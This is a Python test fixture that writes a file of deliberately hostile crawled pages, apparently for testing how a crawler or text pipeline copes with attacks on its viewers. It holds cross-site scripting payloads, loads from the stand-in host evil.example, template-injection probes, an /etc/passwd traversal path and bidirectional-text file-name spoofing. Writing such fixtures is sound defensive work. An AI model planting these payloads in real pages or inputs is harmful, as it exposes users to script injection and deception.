"""A crawl in which everything is an attack on who looks at it."""

import json
from pathlib import Path

SCRIPT = "<script>alert(1);fetch('http://evil.example/script')</script>"
PASSAGE = (f"<p onmouseover=alert(2)>A passage that is copied {SCRIPT}"
           "<img src=http://evil.example/i onerror=alert(3)> and goes on with words "
           "enough to be called one, \u202etxt.exe\u202c "
           "\u2066bidi\u2069 \x1b[31m and \u200bno width</p>")
MORE = (
    "<svg onload=alert(4)><image href='http://evil.example/svg'/></svg>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/refresh'>",
    "<style>@import url(http://evil.example/css);body{background:url(//evil.example/b)}</style>",
    "<iframe srcdoc='<script>alert(5)</script>' src=http://evil.example/frame></iframe>",
    "<link rel=stylesheet href=http://evil.example/l.css><base href=http://evil.example/>",
    "<a href='javascript:alert(6)'>click</a><form action=http://evil.example/f><input autofocus "
    "onfocus=alert(7)></form>", "</script></style></textarea></title>{{7*7}}${7*7}<!--",
    "<p>" + "line without an end " * 50_000,
)
TITLES = ("</title><script>alert(8)</script>", "\u202eeltit", "<img src=x onerror=alert(9)>")


def urls() -> list[str]:
    """Two of each: what differs is the host."""
    paths = ("?q=<script>alert(1)</script>", "\"onmouseover=alert(1)//", "'><svg onload=alert(1)>",
             "%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "\u202egpj.exe", "javascript:alert(1)",
             "../../../../etc/passwd", "a b<c>d")
    return [f"http://{host}.example/{path}" for path in paths for host in ("bad", "worse")]


def write_attacks(path: Path) -> None:
    """Pages that are near-duplicates, have passages in common, and overlap."""
    common = " ".join(f"word{n} of the copied text" for n in range(200))
    with open(path, "w") as out:
        for n, url in enumerate(urls()):
            html = (f"<title>{TITLES[n % len(TITLES)]}</title>{PASSAGE}<p>{common}</p>"
                    f"{MORE[n // 2 % len(MORE)]}<p>number {n}{SCRIPT}</p>")
            out.write(json.dumps({"url": url, "html": html}) + "\n")
        out.write('{"url": "http://bad.example/<script>alert(1)</script>", "html": \n')
        out.write(json.dumps({"url": "<script>alert(1)</script>", "html": "x"}) + "\n")
